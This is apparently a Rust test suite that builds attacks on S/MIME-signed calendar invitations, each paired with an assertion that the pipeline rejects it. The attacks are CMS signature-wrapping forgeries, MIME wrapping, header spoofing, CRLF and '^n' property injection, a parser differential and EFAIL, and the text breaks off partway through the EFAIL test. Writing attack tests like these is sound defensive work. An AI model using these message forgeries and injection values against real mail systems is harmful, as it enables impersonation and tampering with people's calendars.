//! The attack suite: every test builds one attack on signed calendar mail itself (with the
//! test PKI in `certs/`, the crates' own signer, a small DER writer below and the `openssl`
//! CLI) and asserts the pipeline's verdict and reason code. A control test next to each
//! hand-built structure proves the builder makes messages the pipeline accepts, so a reject
//! is caused by the attack and not by the builder.
//!
//! Evaluation time: 2026-06-01T00:00:00Z (certs/README.md). Needs the `openssl` CLI.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

use std::io::Write as _;
use std::path::PathBuf;
use std::process::{Command, Stdio};

use imipsec_pipeline::policy::SqliteStore;
use imipsec_pipeline::smime::TrustStore;
use imipsec_pipeline::smime::keys::Identity;
use imipsec_pipeline::smime::sign::{SignOptions, sign_detached, sign_opaque};
use imipsec_pipeline::{Evaluation, LayerStatus, Pipeline, Reason, Settings, Verdict, Warning};
use time::macros::datetime;

const AT: time::OffsetDateTime = datetime!(2026-06-01 00:00:00 UTC);
const ORGANIZER: &str = "organizer@example.com";
const ATTENDEE: &str = "attendee@example.com";
const MALLORY: &str = "mallory@example.net";

// ---------------------------------------------------------------------------------------------
// Fixtures

fn certs() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../certs")
}

fn cert_path(name: &str) -> String {
    certs()
        .join(format!("{name}.cert.pem"))
        .to_string_lossy()
        .into_owned()
}

fn key_path(name: &str) -> String {
    certs()
        .join(format!("{name}.key.pem"))
        .to_string_lossy()
        .into_owned()
}

fn identity(name: &str) -> Identity {
    let mut pem = std::fs::read(certs().join(format!("{name}.key.pem"))).unwrap();
    pem.extend(std::fs::read(certs().join(format!("{name}.chain.pem"))).unwrap());
    Identity::from_pem(&pem).unwrap()
}

/// The pipeline of the recipient, attendee@example.com, who can decrypt with her RSA key.
fn pipeline() -> Pipeline {
    let trust = TrustStore::from_pem_files(
        &[certs().join("root.cert.pem")],
        &[certs().join("intermediate.crl.pem")],
    )
    .unwrap();
    let mut settings = Settings::new(trust);
    settings.identities = vec![identity("rsa2048/attendee")];
    Pipeline::new(settings)
}

fn evaluate(raw: &[u8]) -> Verdict {
    pipeline()
        .evaluate(
            raw,
            &Evaluation {
                at: AT,
                recipient: Some(ATTENDEE),
                record: false,
            },
            None,
        )
        .unwrap()
}

fn evaluate_recorded(pipeline: &Pipeline, store: &SqliteStore, raw: &[u8]) -> Verdict {
    pipeline
        .evaluate(
            raw,
            &Evaluation {
                at: AT,
                recipient: Some(ATTENDEE),
                record: true,
            },
            Some(store),
        )
        .unwrap()
}

/// Rejected, and `reason` is the most specific reason.
#[track_caller]
fn assert_rejected(verdict: &Verdict, reason: Reason) {
    assert!(!verdict.is_accept(), "accepted; expected {reason:?}");
    assert_eq!(
        verdict.primary_reason(),
        Some(reason),
        "reasons: {:?}",
        verdict.reasons()
    );
}

#[track_caller]
fn assert_accepted(verdict: &Verdict) {
    assert!(verdict.is_accept(), "rejected: {:?}", verdict.reasons());
}

/// An iTIP object with one VEVENT. `extra` is inserted before END:VEVENT.
fn calendar(method: &str, uid: &str, sequence: u32, organizer: &str, extra: &str) -> String {
    let attendee = if method == "REPLY" {
        format!("ATTENDEE;PARTSTAT=ACCEPTED:mailto:{ATTENDEE}\r\n")
    } else {
        format!("ATTENDEE;PARTSTAT=NEEDS-ACTION:mailto:{ATTENDEE}\r\n")
    };
    format!(
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//imipsec//attacks//EN\r\nMETHOD:{method}\r\n\
         BEGIN:VEVENT\r\nUID:{uid}\r\nDTSTAMP:20260601T000000Z\r\n\
         ORGANIZER:mailto:{organizer}\r\nDTSTART:20260615T100000Z\r\nSUMMARY:Planning\r\n\
         SEQUENCE:{sequence}\r\n{attendee}{extra}END:VEVENT\r\nEND:VCALENDAR\r\n"
    )
}

fn request(uid: &str, sequence: u32) -> String {
    calendar("REQUEST", uid, sequence, ORGANIZER, "")
}

/// A `text/calendar` MIME entity (headers, empty line, body).
fn entity(calendar: &str, method: &str) -> Vec<u8> {
    format!(
        "Content-Type: text/calendar; method={method}; charset=utf-8; component=VEVENT\r\n\
         Content-Transfer-Encoding: 7bit\r\n\r\n{calendar}"
    )
    .into_bytes()
}

/// RFC 5322 header fields for a message from `from`, then `entity` (which brings its own
/// Content-Type).
fn message_from(from_fields: &str, entity: &[u8]) -> Vec<u8> {
    let mut out = format!(
        "{from_fields}To: {ATTENDEE}\r\nSubject: Planning\r\n\
         Date: Mon, 01 Jun 2026 00:00:00 +0000\r\nMessage-ID: <attack@example.com>\r\n\
         MIME-Version: 1.0\r\n"
    )
    .into_bytes();
    out.extend_from_slice(entity);
    out
}

fn message(from: &str, entity: &[u8]) -> Vec<u8> {
    message_from(&format!("From: {from}\r\n"), entity)
}

fn signed(signer: &str, entity: &[u8]) -> Vec<u8> {
    let options = SignOptions {
        signing_time: Some(AT),
        ..SignOptions::default()
    };
    sign_detached(entity, &identity(signer), &options).unwrap()
}

/// A REQUEST for `uid` signed by the organizer, as a whole message.
fn signed_request(uid: &str, sequence: u32) -> Vec<u8> {
    message(
        ORGANIZER,
        &signed(
            "rsa2048/organizer",
            &entity(&request(uid, sequence), "REQUEST"),
        ),
    )
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack
        .windows(needle.len())
        .position(|window| window == needle)
}

fn replace(haystack: &[u8], needle: &[u8], with: &[u8]) -> Vec<u8> {
    let at = find(haystack, needle).expect("needle present");
    let mut out = haystack[..at].to_vec();
    out.extend_from_slice(with);
    out.extend_from_slice(&haystack[at + needle.len()..]);
    out
}

/// Runs the openssl CLI with `input` on stdin and returns stdout.
fn openssl(args: &[&str], input: &[u8]) -> Vec<u8> {
    let mut child = Command::new("openssl")
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the openssl CLI is installed");
    child.stdin.take().unwrap().write_all(input).unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(
        output.status.success(),
        "openssl {args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    output.stdout
}

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for (index, chunk) in bytes.chunks(3).enumerate() {
        if index > 0 && index % 19 == 0 {
            out.push_str("\r\n");
        }
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * i)) as usize & 63]));
            } else {
                out.push('=');
            }
        }
    }
    out.push_str("\r\n");
    out
}

/// A `multipart/signed` entity with `first` as the signed part and `cms` (DER) as the
/// detached signature.
fn multipart_signed(first: &[u8], cms: &[u8]) -> Vec<u8> {
    let mut out = b"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\";\r\n\
\tmicalg=sha-256; boundary=\"sig-boundary\"\r\n\r\n--sig-boundary\r\n"
        .to_vec();
    out.extend_from_slice(first);
    out.extend_from_slice(
        b"\r\n--sig-boundary\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n\
Content-Transfer-Encoding: base64\r\n\r\n",
    );
    out.extend_from_slice(base64(cms).as_bytes());
    out.extend_from_slice(b"--sig-boundary--\r\n");
    out
}

// ---------------------------------------------------------------------------------------------
// A small DER writer and reader, to build CMS SignedData (RFC 5652 section 5) with exactly
// the defects an attack needs.

fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    let len = content.len();
    if len < 0x80 {
        out.push(len as u8);
    } else {
        let bytes: Vec<u8> = len
            .to_be_bytes()
            .into_iter()
            .skip_while(|&b| b == 0)
            .collect();
        out.push(0x80 | bytes.len() as u8);
        out.extend_from_slice(&bytes);
    }
    out.extend_from_slice(content);
    out
}

fn seq(parts: &[Vec<u8>]) -> Vec<u8> {
    der(0x30, &parts.concat())
}

/// A DER SET OF: elements sorted by their encoding (X.690 section 11.6).
fn set(parts: &[Vec<u8>]) -> Vec<u8> {
    let mut sorted = parts.to_vec();
    sorted.sort();
    der(0x31, &sorted.concat())
}

fn oid(dotted: &str) -> Vec<u8> {
    let arcs: Vec<u64> = dotted.split('.').map(|arc| arc.parse().unwrap()).collect();
    let mut content = vec![(arcs[0] * 40 + arcs[1]) as u8];
    for &arc in &arcs[2..] {
        let mut groups = vec![(arc & 0x7f) as u8];
        let mut rest = arc >> 7;
        while rest > 0 {
            groups.push((rest & 0x7f) as u8 | 0x80);
            rest >>= 7;
        }
        groups.reverse();
        content.extend(groups);
    }
    der(0x06, &content)
}

const ID_DATA: &str = "1.2.840.113549.1.7.1";
const ID_SIGNED_DATA: &str = "1.2.840.113549.1.7.2";
const ID_CONTENT_TYPE: &str = "1.2.840.113549.1.9.3";
const ID_MESSAGE_DIGEST: &str = "1.2.840.113549.1.9.4";
const ID_SHA256: &str = "2.16.840.1.101.3.4.2.1";
const RSA_ENCRYPTION: &str = "1.2.840.113549.1.1.1";

fn algorithm(dotted: &str) -> Vec<u8> {
    seq(&[oid(dotted), der(0x05, &[])])
}

/// (tag, whole TLV length, content) of the TLV at the start of `bytes` (definite lengths).
fn tlv(bytes: &[u8]) -> (u8, usize, &[u8]) {
    let tag = bytes[0];
    let (header, len) = if bytes[1] < 0x80 {
        (2, usize::from(bytes[1]))
    } else {
        let n = usize::from(bytes[1] & 0x7f);
        let len = bytes[2..2 + n]
            .iter()
            .fold(0usize, |acc, &b| (acc << 8) | usize::from(b));
        (2 + n, len)
    };
    (tag, header + len, &bytes[header..header + len])
}

/// The TLVs inside a constructed value's content.
fn children(mut content: &[u8]) -> Vec<&[u8]> {
    let mut out = Vec::new();
    while !content.is_empty() {
        let (_, total, _) = tlv(content);
        out.push(&content[..total]);
        content = &content[total..];
    }
    out
}

fn certificate_der(name: &str) -> Vec<u8> {
    openssl(&["x509", "-in", &cert_path(name), "-outform", "DER"], b"")
}

/// IssuerAndSerialNumber of a certificate (RFC 5652 section 10.2.4).
fn issuer_and_serial(certificate: &[u8]) -> Vec<u8> {
    let (_, _, cert) = tlv(certificate);
    let (_, _, tbs) = tlv(children(cert)[0]);
    let fields = children(tbs);
    // [0] version, serialNumber, signature, issuer
    let (serial, issuer) = if fields[0][0] == 0xa0 {
        (fields[1], fields[3])
    } else {
        (fields[0], fields[2])
    };
    seq(&[issuer.to_vec(), serial.to_vec()])
}

fn sha256(data: &[u8]) -> Vec<u8> {
    openssl(&["dgst", "-sha256", "-binary"], data)
}

fn attribute(dotted: &str, values: &[Vec<u8>]) -> Vec<u8> {
    seq(&[oid(dotted), set(values)])
}

fn content_type_attribute(dotted: &str) -> Vec<u8> {
    attribute(ID_CONTENT_TYPE, &[oid(dotted)])
}

fn message_digest_attribute(content: &[u8]) -> Vec<u8> {
    attribute(ID_MESSAGE_DIGEST, &[der(0x04, &sha256(content))])
}

/// The two signed attributes RFC 5652 section 5.3 requires, right.
fn honest_attributes(content: &[u8]) -> Vec<Vec<u8>> {
    vec![
        content_type_attribute(ID_DATA),
        message_digest_attribute(content),
    ]
}

/// A SignerInfo by the RSA identity `signer` over `attributes` (signature computed over the
/// attributes' DER with the SET tag, RFC 5652 section 5.4); `corrupt` flips a signature bit.
fn signer_info(signer: &str, attributes: &[Vec<u8>], corrupt: bool) -> Vec<u8> {
    let signed_attributes = set(attributes);
    let mut signature = openssl(
        &["dgst", "-sha256", "-sign", &key_path(signer)],
        &signed_attributes,
    );
    if corrupt {
        signature[10] ^= 0x01;
    }
    let mut implicit = signed_attributes;
    implicit[0] = 0xa0;
    seq(&[
        der(0x02, &[1]),
        issuer_and_serial(&certificate_der(signer)),
        algorithm(ID_SHA256),
        implicit,
        algorithm(RSA_ENCRYPTION),
        der(0x04, &signature),
    ])
}

/// A ContentInfo holding SignedData with these SignerInfos, the certificates of `signers`
/// and the intermediate, and `econtent` as encapsulated content (None: detached).
fn signed_data(econtent: Option<&[u8]>, signer_infos: &[Vec<u8>], signers: &[&str]) -> Vec<u8> {
    let mut encap = vec![oid(ID_DATA)];
    if let Some(content) = econtent {
        encap.push(der(0xa0, &der(0x04, content)));
    }
    let mut certificates: Vec<Vec<u8>> = signers.iter().map(|s| certificate_der(s)).collect();
    certificates.push(certificate_der("intermediate"));
    let body = seq(&[
        der(0x02, &[1]),
        set(&[algorithm(ID_SHA256)]),
        seq(&encap),
        der(0xa0, &certificates.concat()),
        der(0x31, &signer_infos.concat()),
    ]);
    seq(&[oid(ID_SIGNED_DATA), der(0xa0, &body)])
}

/// A whole message: the REQUEST entity under a hand-built detached signature.
fn hand_signed(first: &[u8], cms: &[u8]) -> Vec<u8> {
    message(ORGANIZER, &multipart_signed(first, cms))
}

fn invitation() -> Vec<u8> {
    entity(&request("hand-built@example.com", 0), "REQUEST")
}

// ---------------------------------------------------------------------------------------------
// CMS tricks

#[test]
fn control_hand_built_signed_data_is_accepted() {
    let content = invitation();
    let info = signer_info("rsa2048/organizer", &honest_attributes(&content), false);
    let cms = signed_data(None, &[info], &["rsa2048/organizer"]);
    assert_accepted(&evaluate(&hand_signed(&content, &cms)));
}

/// CVE-2018-18509 / "Johnny" C1: a detached signature whose SignedData also carries (and
/// signs) eContent; a verifier that checks eContent but shows the MIME part is fooled.
#[test]
fn econtent_confusion_is_bad_signature() {
    let shown = invitation();
    let really_signed = entity(&request("other@example.com", 0), "REQUEST");
    let info = signer_info(
        "rsa2048/organizer",
        &honest_attributes(&really_signed),
        false,
    );
    let cms = signed_data(Some(&really_signed), &[info], &["rsa2048/organizer"]);
    assert_rejected(&evaluate(&hand_signed(&shown, &cms)), Reason::BadSignature);
}

/// "Johnny" C2: one valid SignerInfo and one that does not verify.
#[test]
fn multiple_signers_with_one_bad_signature_are_rejected() {
    let content = invitation();
    let good = signer_info("rsa2048/organizer", &honest_attributes(&content), false);
    let bad = signer_info("rsa2048/attendee", &honest_attributes(&content), true);
    for infos in [
        vec![good.clone(), bad.clone()],
        vec![bad.clone(), good.clone()],
    ] {
        let cms = signed_data(None, &infos, &["rsa2048/organizer", "rsa2048/attendee"]);
        assert_rejected(
            &evaluate(&hand_signed(&content, &cms)),
            Reason::BadSignature,
        );
    }
}

/// The second signer signed other content (a valid signature, wrong messageDigest).
#[test]
fn multiple_signers_one_over_other_content_are_rejected() {
    let content = invitation();
    let good = signer_info("rsa2048/organizer", &honest_attributes(&content), false);
    let elsewhere = signer_info(
        "rsa2048/stranger",
        &honest_attributes(b"some other content"),
        false,
    );
    let cms = signed_data(
        None,
        &[good, elsewhere],
        &["rsa2048/organizer", "rsa2048/stranger"],
    );
    assert_rejected(
        &evaluate(&hand_signed(&content, &cms)),
        Reason::BadSignature,
    );
}

/// "Johnny" C3: SignedData without SignerInfos (certs-only) presented as a signature.
#[test]
fn no_signers_is_bad_signature() {
    let content = invitation();
    let cms = signed_data(None, &[], &["rsa2048/organizer"]);
    assert_rejected(
        &evaluate(&hand_signed(&content, &cms)),
        Reason::BadSignature,
    );
}

#[test]
fn missing_content_type_attribute_is_bad_signature() {
    let content = invitation();
    let info = signer_info(
        "rsa2048/organizer",
        &[message_digest_attribute(&content)],
        false,
    );
    let cms = signed_data(None, &[info], &["rsa2048/organizer"]);
    assert_rejected(
        &evaluate(&hand_signed(&content, &cms)),
        Reason::BadSignature,
    );
}

#[test]
fn missing_message_digest_attribute_is_bad_signature() {
    let content = invitation();
    let info = signer_info(
        "rsa2048/organizer",
        &[content_type_attribute(ID_DATA)],
        false,
    );
    let cms = signed_data(None, &[info], &["rsa2048/organizer"]);
    assert_rejected(
        &evaluate(&hand_signed(&content, &cms)),
        Reason::BadSignature,
    );
}

#[test]
fn duplicated_content_type_attribute_is_bad_signature() {
    let content = invitation();
    let mut attributes = honest_attributes(&content);
    attributes.push(content_type_attribute(ID_DATA));
    let info = signer_info("rsa2048/organizer", &attributes, false);
    let cms = signed_data(None, &[info], &["rsa2048/organizer"]);
    assert_rejected(
        &evaluate(&hand_signed(&content, &cms)),
        Reason::BadSignature,
    );
}

/// Two messageDigest attributes, one for the shown content and one for other content: a
/// verifier picking either one must not be steerable, so both are refused.
#[test]
fn duplicated_message_digest_attribute_is_bad_signature() {
    let content = invitation();
    let mut attributes = honest_attributes(&content);
    attributes.push(message_digest_attribute(b"attacker content"));
    let info = signer_info("rsa2048/organizer", &attributes, false);
    let cms = signed_data(None, &[info], &["rsa2048/organizer"]);
    assert_rejected(
        &evaluate(&hand_signed(&content, &cms)),
        Reason::BadSignature,
    );

    // Two values inside one messageDigest attribute.
    let two_values = attribute(
        ID_MESSAGE_DIGEST,
        &[
            der(0x04, &sha256(&content)),
            der(0x04, &sha256(b"attacker content")),
        ],
    );
    let info = signer_info(
        "rsa2048/organizer",
        &[content_type_attribute(ID_DATA), two_values],
        false,
    );
    let cms = signed_data(None, &[info], &["rsa2048/organizer"]);
    assert_rejected(
        &evaluate(&hand_signed(&content, &cms)),
        Reason::BadSignature,
    );
}

/// The signed contentType attribute says id-signedData while eContentType is id-data
/// (RFC 5652 section 11.1: they must match).
#[test]
fn content_type_mismatch_is_bad_signature() {
    let content = invitation();
    let info = signer_info(
        "rsa2048/organizer",
        &[
            content_type_attribute(ID_SIGNED_DATA),
            message_digest_attribute(&content),
        ],
        false,
    );
    let cms = signed_data(None, &[info], &["rsa2048/organizer"]);
    assert_rejected(
        &evaluate(&hand_signed(&content, &cms)),
        Reason::BadSignature,
    );
}

/// A genuine signature of one invitation moved onto another invitation.
#[test]
fn signature_replayed_onto_another_message_is_bad_signature() {
    let genuine_entity = entity(&request("genuine@example.com", 0), "REQUEST");
    let genuine = signed("rsa2048/organizer", &genuine_entity);
    let forged_entity = entity(
        &calendar(
            "REQUEST",
            "genuine@example.com",
            0,
            ORGANIZER,
            &format!("ATTENDEE;PARTSTAT=NEEDS-ACTION:mailto:{MALLORY}\r\n"),
        ),
        "REQUEST",
    );
    let forged = replace(&genuine, &genuine_entity, &forged_entity);
    assert_accepted(&evaluate(&message(ORGANIZER, &genuine)));
    assert_rejected(
        &evaluate(&message(ORGANIZER, &forged)),
        Reason::BadSignature,
    );
}

// ---------------------------------------------------------------------------------------------
// MIME wrapping ("Johnny" M1-M4 for calendars)

fn mixed(boundary: &str, parts: &[&[u8]]) -> Vec<u8> {
    let mut out =
        format!("Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n\r\n").into_bytes();
    for part in parts {
        out.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
        out.extend_from_slice(part);
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    out
}

/// An unsigned attacker calendar beside a genuinely signed part.
#[test]
fn calendar_beside_a_signed_part_is_unprotected() {
    let signed_text = signed(
        "rsa2048/organizer",
        b"Content-Type: text/plain; charset=utf-8\r\n\r\nSee the attached invitation.\r\n",
    );
    let attacker = entity(
        &calendar("CANCEL", "victim@example.com", 5, ORGANIZER, ""),
        "CANCEL",
    );
    for parts in [
        [signed_text.as_slice(), attacker.as_slice()],
        [attacker.as_slice(), signed_text.as_slice()],
    ] {
        let raw = message(ORGANIZER, &mixed("outer", &parts));
        assert_rejected(&evaluate(&raw), Reason::UnprotectedCalendar);
    }
}

/// An attacker calendar around (an alternative to) a genuinely signed invitation.
#[test]
fn calendar_around_a_signed_invitation_is_unprotected() {
    let genuine = signed(
        "rsa2048/organizer",
        &entity(&request("genuine@example.com", 0), "REQUEST"),
    );
    let attacker = entity(
        &calendar("CANCEL", "genuine@example.com", 1, ORGANIZER, ""),
        "CANCEL",
    );
    let mut alternative =
        b"Content-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n--alt\r\n".to_vec();
    alternative.extend_from_slice(&attacker);
    alternative.extend_from_slice(b"\r\n--alt\r\n");
    alternative.extend_from_slice(&genuine);
    alternative.extend_from_slice(b"\r\n--alt--\r\n");
    assert_rejected(
        &evaluate(&message(ORGANIZER, &alternative)),
        Reason::UnprotectedCalendar,
    );
}

/// A genuinely signed invitation forwarded inside message/rfc822 next to the attacker's
/// text: the inner signature belongs to the attachment, never to this message ("Johnny" M4).
#[test]
fn signed_invitation_inside_message_rfc822_is_not_this_messages_signature() {
    let inner = signed_request("forwarded@example.com", 0);
    let mut attachment = b"Content-Type: message/rfc822\r\n\r\n".to_vec();
    attachment.extend_from_slice(&inner);
    let raw = message(
        MALLORY,
        &mixed(
            "fwd",
            &[
                b"Content-Type: text/plain\r\n\r\nPlease accept the attached.\r\n",
                &attachment,
            ],
        ),
    );
    let verdict = evaluate(&raw);
    assert_rejected(&verdict, Reason::Unsigned);
    assert!(verdict.has_reason(Reason::UnprotectedCalendar));
    assert!(verdict.layers().is_empty(), "{:?}", verdict.layers());
}

/// The same forwarded invitation next to a part that mallory signed: the invitation is
/// still not signed by this message, and mallory's signature does not cover it.
#[test]
fn calendar_inside_message_rfc822_next_to_a_signed_part_is_never_accepted() {
    let inner = signed_request("forwarded@example.com", 0);
    let mut attachment = b"Content-Type: message/rfc822\r\n\r\n".to_vec();
    attachment.extend_from_slice(&inner);
    let note = signed(
        "rsa2048/stranger",
        b"Content-Type: text/plain\r\n\r\nForwarding the organizer's invitation.\r\n",
    );
    let raw = message(MALLORY, &mixed("fwd", &[&note, &attachment]));
    // Issue #11: a calendar in a forwarded message is calendar content, never this message's.
    assert_rejected(&evaluate(&raw), Reason::UnprotectedCalendar);
}

// ---------------------------------------------------------------------------------------------
// Identity attacks: the signer is bound to the ORGANIZER/ATTENDEE, never to From or a name.

fn mallory_signed_request_for_the_organizer(from_fields: &str) -> Vec<u8> {
    message_from(
        from_fields,
        &signed(
            "rsa2048/stranger",
            &entity(&request("victim@example.com", 0), "REQUEST"),
        ),
    )
}

#[test]
fn display_name_containing_another_address_does_not_make_the_signer_the_organizer() {
    let raw =
        mallory_signed_request_for_the_organizer(&format!("From: \"{ORGANIZER}\" <{MALLORY}>\r\n"));
    assert_rejected(&evaluate(&raw), Reason::SignerNotCorrelated);
}

#[test]
fn several_from_headers_do_not_make_the_signer_the_organizer() {
    let raw = mallory_signed_request_for_the_organizer(&format!(
        "From: {ORGANIZER}\r\nFrom: {MALLORY}\r\n"
    ));
    assert_rejected(&evaluate(&raw), Reason::SignerNotCorrelated);
}

#[test]
fn signer_address_in_a_from_comment_does_not_make_the_signer_the_organizer() {
    let raw =
        mallory_signed_request_for_the_organizer(&format!("From: {ORGANIZER} ({MALLORY})\r\n"));
    assert_rejected(&evaluate(&raw), Reason::SignerNotCorrelated);
}

/// The organizer's address in the CN parameter: mallory may organize her own event, but
/// the acting identity is her address, never the CN.
#[test]
fn organizer_common_name_is_never_the_identity() {
    let ics = calendar("REQUEST", "own@example.net", 0, MALLORY, "")
        .replace("ORGANIZER:", &format!("ORGANIZER;CN=\"{ORGANIZER}\":"));
    let raw = message(
        MALLORY,
        &signed("rsa2048/stranger", &entity(&ics, "REQUEST")),
    );
    let verdict = evaluate(&raw);
    assert_accepted(&verdict);
    assert_eq!(verdict.itip().len(), 1);
    let actor = verdict.itip()[0]
        .actor
        .as_deref()
        .unwrap()
        .to_ascii_lowercase();
    assert!(actor.contains(MALLORY), "actor {actor}");
    assert!(!actor.contains(ORGANIZER));
}

// ---------------------------------------------------------------------------------------------
// CRLF injection, folding and encoding tricks

/// RFC 6868 `^n` in a parameter decodes to a newline inside the value; it never starts a
/// new content line that could add an ORGANIZER.
#[test]
fn caret_newline_in_a_parameter_does_not_inject_a_property() {
    let ics = request("inject@example.com", 0).replace(
        "ORGANIZER:",
        &format!("ORGANIZER;CN=\"Org^nORGANIZER:mailto:{MALLORY}\":"),
    );
    let raw = message(
        MALLORY,
        &signed("rsa2048/stranger", &entity(&ics, "REQUEST")),
    );
    assert_rejected(&evaluate(&raw), Reason::SignerNotCorrelated);
}

/// A parser differential on the attendee address: RFC 5545 has no escapes in parameter
/// values, so this crate reads CN as `a\`, X-Y as a parameter and mallory (the signer) as
/// the replying attendee; calcard, the parser of the Stalwart server, honours the
/// backslash and reads the attendee address out of what this crate saw inside X-Y. The
/// REPLY is genuinely signed by mallory and correlates to her here, so only the calcard
/// cross-check stands between it and the store.
#[test]
fn attendee_parser_differential_is_malformed_even_when_signed() {
    let reply = calendar("REPLY", "differential@example.com", 0, ORGANIZER, "").replace(
        &format!("ATTENDEE;PARTSTAT=ACCEPTED:mailto:{ATTENDEE}\r\n"),
        &format!(
            "ATTENDEE;PARTSTAT=ACCEPTED;CN=\"a\\\";X-Y=\":mailto:{ATTENDEE}\":mailto:{MALLORY}\r\n"
        ),
    );
    assert!(reply.contains("X-Y="), "the attack line is in place");
    // Control: the same REPLY with a plain ATTENDEE line for mallory is accepted, so the
    // reject below is the differential's.
    let plain = calendar("REPLY", "differential@example.com", 0, ORGANIZER, "")
        .replace(&format!("mailto:{ATTENDEE}"), &format!("mailto:{MALLORY}"));
    let control = message(
        MALLORY,
        &signed("rsa2048/stranger", &entity(&plain, "REPLY")),
    );
    assert_accepted(&evaluate(&control));
    let raw = message(
        MALLORY,
        &signed("rsa2048/stranger", &entity(&reply, "REPLY")),
    );
    assert_rejected(&evaluate(&raw), Reason::MalformedIcalendar);
}

/// A bare CR inside a value: a parser that splits lines on CR would see an extra ATTENDEE
/// that this one does not; refused even when genuinely signed. (Signed with the hand-built
/// SignedData: the crate's signer would canonicalise the bare CR into a line break.)
#[test]
fn bare_cr_in_a_value_is_malformed_even_when_signed() {
    let ics = request("bare-cr@example.com", 0).replace(
        "SUMMARY:Planning\r\n",
        &format!("SUMMARY:Planning\rATTENDEE:mailto:{MALLORY}\r\n"),
    );
    let content = entity(&ics, "REQUEST");
    let info = signer_info("rsa2048/organizer", &honest_attributes(&content), false);
    let cms = signed_data(None, &[info], &["rsa2048/organizer"]);
    // Since issue #11 a bare CR anywhere in a message is refused by the MIME walk already
    // (mail-parser drops it), before the iCalendar scanner would.
    assert_rejected(
        &evaluate(&hand_signed(&content, &cms)),
        Reason::MalformedMime,
    );
}

/// A folded Content-Type hides nothing: the `method` parameter after the fold is read and
/// must match METHOD.
#[test]
fn folded_content_type_parameter_is_still_checked() {
    let ics = request("folded@example.com", 0);
    let mut part =
        b"Content-Type: text/calendar; charset=utf-8;\r\n method=CANCEL\r\n\r\n".to_vec();
    part.extend_from_slice(ics.as_bytes());
    let raw = message(ORGANIZER, &signed("rsa2048/organizer", &part));
    assert_rejected(&evaluate(&raw), Reason::MethodMismatch);
}

/// Two Content-Type fields on the signed part: which one a client honours is undefined.
#[test]
fn duplicate_content_type_is_malformed_mime() {
    let ics = request("duplicate@example.com", 0);
    let mut part = b"Content-Type: text/plain\r\nContent-Type: text/calendar; method=REQUEST; charset=utf-8\r\n\r\n".to_vec();
    part.extend_from_slice(ics.as_bytes());
    let raw = message(ORGANIZER, &signed("rsa2048/organizer", &part));
    assert_rejected(&evaluate(&raw), Reason::MalformedMime);
}

/// A base64 calendar part with garbage characters, signed as it is: strict decoding
/// refuses it rather than guessing what a lenient client would show.
#[test]
fn base64_with_garbage_in_a_signed_part_is_malformed_mime() {
    let ics = request("garbage@example.com", 0);
    let encoded = base64(ics.as_bytes());
    let mut garbled = encoded.clone();
    garbled.insert_str(20, "!*%");
    let part = |body: &str| {
        format!(
            "Content-Type: text/calendar; method=REQUEST; charset=utf-8\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{body}"
        )
        .into_bytes()
    };
    let control = message(ORGANIZER, &signed("rsa2048/organizer", &part(&encoded)));
    assert_accepted(&evaluate(&control));
    let raw = message(ORGANIZER, &signed("rsa2048/organizer", &part(&garbled)));
    assert_rejected(&evaluate(&raw), Reason::MalformedMime);
}

/// Garbage inside the base64 of the signature part: strict decoding fails the signature
/// layer (malformed CMS at the garbage's offset) instead of skipping the characters.
#[test]
fn base64_with_garbage_in_the_signature_is_rejected() {
    let genuine = signed_request("sig-garbage@example.com", 0);
    let at = find(&genuine, b"smime.p7s\r\n\r\n").unwrap() + b"smime.p7s\r\n\r\n".len();
    let mut raw = genuine[..at + 8].to_vec();
    raw.extend_from_slice(b"@@##");
    raw.extend_from_slice(&genuine[at + 8..]);
    let verdict = evaluate(&raw);
    assert_rejected(&verdict, Reason::BadSignature);
    assert!(
        verdict.reasons()[0].detail.contains("malformed CMS"),
        "{:?}",
        verdict.reasons()
    );
}

// ---------------------------------------------------------------------------------------------
// EFAIL (Poddebniak et al., USENIX Security 2018)

fn encrypted_entity(cipher: &str, content: &[u8], recipient: &str) -> Vec<u8> {
    // openssl writes the S/MIME headers with LF line ends: canonicalise to CRLF.
    let smime = openssl(
        &["cms", "-encrypt", "-binary", cipher, &cert_path(recipient)],
        content,
    );
    let text = String::from_utf8(smime).unwrap();
    let mut out = String::new();
    let mut in_headers = true;
    for line in text.lines() {
        if in_headers && line.starts_with("MIME-Version") {
            continue;
        }
        if line.is_empty() {
            in_headers = false;
        }
        out.push_str(line);
        out.push_str("\r\n");
    }
    out.into_bytes()
}

const SECRET: &str = "Secret board meeting about the merger";

fn secret_invitation() -> Vec<u8> {
    let ics =
        request("efail@example.com", 0).replace("SUMMARY:Planning", &format!("SUMMARY:{SECRET}"));
    signed("rsa2048/organizer", &entity(&ics, "REQUEST"))
}

/// Direct exfiltration: the ciphertext between two attacker HTML parts. The encrypted part
/// is not the message root, so it is never decrypted, and its plaintext never appears in
/// the verdict (nothing is concatenated across parts).
#[test]
fn efail_direct_exfiltration_is_never_decrypted() {
    let encrypted = encrypted_entity("-aes-256-gcm", &secret_invitation(), "rsa2048/attendee");
    let raw = message(
        MALLORY,
        &mixed(
            "efail",
            &[
